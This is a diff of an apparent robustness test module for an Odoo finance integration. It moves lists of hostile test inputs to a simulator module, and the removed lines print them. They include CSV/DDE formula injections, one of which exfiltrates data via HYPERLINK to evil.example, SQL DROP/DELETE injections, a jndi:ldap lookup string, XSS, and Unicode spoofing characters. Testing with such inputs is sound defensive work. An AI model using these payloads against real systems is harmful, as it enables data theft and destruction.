@@ -5,6 +5,8 @@ import logging
 from collections import Counter
 from pathlib import Path
 
+from ..simulator.hostile import INJECTED_EMAILS, INJECTIONS  # noqa: F401
+
 _logger = logging.getLogger(__name__)
 
 SUMMARY = "hostile input: %s tried, %s rejected cleanly, %s accepted, %s crashes"
@@ -17,28 +19,6 @@ ENGINE_LOGGERS = (
     "odoo.addons.finance_integration_hub.models.fih_backend",
     "odoo.sql_db",
 )
-INJECTIONS = [
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "+SUM(1)",
-    "@x",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3",
-    "'; DROP TABLE res_partner; --",
-    "Robert'); DELETE FROM fih_message WHERE ('1'='1",
-    '" OR ""="',
-    "%(name)s %s {0} ${jndi:ldap://evil.example/a}",
-    "<script>alert(1)</script>",
-    "\u202eevil.exe\u202cfdp.txt",  # right-to-left override
-    "Acme\u200b\u200c\u200d\ufeffLtd",  # zero-width characters
-    "\u05e9\u05dc\u05d5\u05dd \u0634\u0631\u0643\u0629 Ltd",  # Hebrew, Arabic
-]
-INJECTED_EMAILS = [
-    "=1+2@evil.example",
-    "+sum(1)@evil.example",
-    "-2+3@evil.example",
-    "'or'1'='1@evil.example",
-]
 
 
 def nested_json(depth):
